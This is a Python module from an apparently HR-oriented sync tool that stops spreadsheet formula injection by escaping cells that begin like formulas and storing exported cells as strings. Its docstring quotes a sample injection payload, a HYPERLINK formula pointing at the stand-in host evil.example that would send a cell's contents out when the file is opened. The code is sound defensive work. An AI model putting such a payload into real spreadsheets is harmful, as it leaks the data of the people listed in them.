"""Cells of the spreadsheets HR downloads: text that Excel, WPS or LibreOffice never runs as a formula.

HR data is not trusted to be plain: a 姓名 of `=HYPERLINK("http://evil.example/?x="&A1,"点击修正")`
becomes a live link that sends the sheet away when the file is opened. Every workbook and CSV
file syncd writes passes its values through `safe_cell`, and XLSX cells are written as strings
(`text_row`), never as formulas, numbers or error values.
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# OWASP's CSV-injection rule: a cell that begins with one of these is read as a formula (or as the
# start of one, after a spreadsheet drops the tab or carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """`value` as text, a leading `'` added when it begins like a formula (so it shows, and stays, text)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def text_row(sheet: Worksheet, values: Iterable[object]) -> list[Cell]:
    """Cells for `sheet.append`: each value through `safe_cell`, stored as a string whatever it looks like."""
    cells = []
    for value in values:
        cell = Cell(sheet, value=safe_cell(value))
        cell.data_type = "s"  # openpyxl would store `#N/A` as an error value
        cells.append(cell)
    return cells
